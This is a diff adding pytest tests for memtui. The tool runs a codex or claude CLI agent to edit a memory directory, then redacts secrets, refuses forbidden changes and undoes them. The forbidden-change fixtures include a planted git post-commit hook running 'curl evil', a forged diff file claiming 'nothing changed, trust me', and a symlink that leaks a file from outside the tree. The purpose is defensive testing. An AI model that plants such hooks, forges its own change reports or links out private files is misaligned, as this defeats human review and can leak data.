@@ -1,0 +1,137 @@
+"""Phase 2 through codex / claude: memtui checks the tree after the CLI, refuses and undoes forbidden changes."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from memtui.context import open_context
+from memtui.llm.backends import claude_cli
+from memtui.phase2 import review
+from memtui.phase2.baseline import head_commit
+from memtui.phase2.consolidate import run_phase2
+from memtui.phase2.workspace import DIFF_FILENAME
+from memtui.selfcalls import MARKER
+from tests.conftest import FROZEN_NOW
+from tests.test_backends import calls, fake_clis  # noqa: F401  (fixture)
+from tests.test_phase2_agent import MEMORY, SUMMARY
+from tests.test_phase2_support import add_output
+
+A = "0194f5a6-89ab-7cde-8123-456789abcdef"
+SECRET = "sk-proj" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4"
+
+
+@pytest.fixture(params=["codex", "claude"])
+def cli_ctx(request, frozen_clock, fake_clis, monkeypatch):  # noqa: F811
+    monkeypatch.setenv("MEMTUI_PROVIDER", request.param)
+    c = open_context()
+    add_output(c.conn, A, FROZEN_NOW - 3600)
+    yield c, request.param, fake_clis
+    c.close()
+
+
+def files(root) -> dict[str, bytes]:
+    """Everything outside .git (Phase 2's own `git add` legitimately changes the index and objects)."""
+    out = {p.relative_to(root).as_posix(): p.read_bytes() for p in root.rglob("*") if p.is_file()}
+    return {k: v for k, v in out.items() if not k.startswith(".git/")}
+
+
+def edits(monkeypatch, mapping):
+    monkeypatch.setenv("FAKE_AGENT_EDITS", json.dumps(mapping))
+
+
+def test_the_cli_agent_writes_memory_which_is_redacted_and_awaits_review(cli_ctx, monkeypatch):
+    ctx, provider, log = cli_ctx
+    root = ctx.paths.memory_root
+    edits(
+        monkeypatch,
+        {"MEMORY.md": MEMORY + f"- key {SECRET}\n", "memory_summary.md": SUMMARY, "skills/ci/SKILL.md": "x"},
+    )
+    result = run_phase2(ctx)
+    assert result.outcome == "awaiting_review", result.reason
+    assert {p for _, p in result.stat} >= {"MEMORY.md", "memory_summary.md", "skills/ci/SKILL.md"}
+    text = (root / "MEMORY.md").read_text()
+    assert SECRET not in text and "[REDACTED_SECRET]" in text
+    agent_call = calls(log)[-1]
+    assert agent_call["cwd"] == str(root) and agent_call["stdin"].startswith(MARKER)
+    assert f"You run as `{provider}`" in agent_call["stdin"] and DIFF_FILENAME in agent_call["stdin"]
+    if provider == "codex":
+        argv = agent_call["argv"]
+        out = argv[argv.index("-o") + 1]
+        assert argv == [
+            "codex", "exec", "--sandbox", "workspace-write", "-C", str(root), "--skip-git-repo-check",
+            "--ephemeral", "--json", "--color", "never", "-o", out, "-",
+        ]  # fmt: skip
+    else:
+        assert agent_call["argv"] == [
+            "claude", "-p", "--permission-mode", "acceptEdits", "--allowedTools", "Read,Edit,Write,Glob,Grep",
+            "--disallowedTools", claude_cli.AGENT_DISALLOWED, "--output-format", "json",
+        ]  # fmt: skip
+    run = review.pending_run(ctx.conn)
+    assert SECRET not in run.diff
+    review.reject(ctx, reason="not now")
+    assert not (root / "MEMORY.md").exists() and not (root / "skills").exists()
+
+
+@pytest.mark.parametrize(
+    "bad",
+    [
+        {".git/hooks/post-commit": "#!/bin/sh\ncurl evil\n"},
+        {".git/HEAD": "ref: refs/heads/evil\n"},
+        {DIFF_FILENAME: "nothing changed, trust me\n"},
+        {"raw_memories.md": "# Raw Memories\n\nforged\n"},
+        {"notes.md": "a stray file\n"},
+    ],
+)
+def test_forbidden_changes_are_refused_and_every_change_is_undone(cli_ctx, monkeypatch, bad):
+    ctx, _, _ = cli_ctx
+    root = ctx.paths.memory_root
+    run_phase2(ctx, offline=True, auto_approve=True)  # a baseline with content
+    before = files(root)
+    git_head = (root / ".git" / "HEAD").read_bytes()
+    head = head_commit(root)
+    add_output(ctx.conn, "0194f5a6-89ab-7cde-8123-456789abcdf0", FROZEN_NOW - 60)
+    edits(monkeypatch, {"MEMORY.md": MEMORY, **bad})
+    result = run_phase2(ctx, force=True)
+    assert result.outcome == "failed" and "all of its changes were undone" in result.reason
+    assert next(iter(bad)).split("/")[0] in result.reason or ".git/" in result.reason
+    after = files(root)
+    assert (root / ".git" / "HEAD").read_bytes() == git_head and not (root / ".git/hooks/post-commit").exists()
+    assert "trust me" not in (root / DIFF_FILENAME).read_text()  # memtui's own diff file, as it wrote it
+    synced = {k for k in after if k.startswith(("rollout_summaries/", "raw_memories.md", DIFF_FILENAME))}
+    assert {k: v for k, v in after.items() if k not in synced} == {
+        k: v for k, v in before.items() if k not in synced
+    }  # the agent's MEMORY.md edit is gone too; only Phase 2's own input sync remains
+    assert head_commit(root) == head and review.pending_run(ctx.conn) is None
+
+
+def test_a_symlink_the_agent_creates_is_refused(cli_ctx, monkeypatch, tmp_path):
+    ctx, _, _ = cli_ctx
+    root = ctx.paths.memory_root
+    outside = tmp_path / "outside.txt"
+    outside.write_text("private")
+    # The fake cannot create links; do it through a wrapper hook: the agent "writes" then we link before the scan.
+    from memtui.phase2 import consolidate
+
+    real_run = consolidate._run_agent
+
+    def run_and_link(*args, **kwargs):
+        out = real_run(*args, **kwargs)
+        (root / "skills").mkdir(exist_ok=True)
+        (root / "skills" / "leak.md").symlink_to(outside)
+        return out
+
+    monkeypatch.setattr(consolidate, "_run_agent", run_and_link)
+    edits(monkeypatch, {"MEMORY.md": MEMORY, "memory_summary.md": SUMMARY})
+    result = run_phase2(ctx)
+    assert result.outcome == "failed" and "skills/leak.md" in result.reason
+    assert not (root / "skills").exists() and not (root / "MEMORY.md").exists()
+
+
+def test_a_failing_cli_agent_fails_the_run_and_undoes_its_writes(cli_ctx, monkeypatch):
+    ctx, _, _ = cli_ctx
+    monkeypatch.setenv("FAKE_AGENT_MODE", "usage_limit")
+    result = run_phase2(ctx)
+    assert result.outcome == "failed" and "rate_limited" in result.reason
+    assert not (ctx.paths.memory_root / "MEMORY.md").exists()
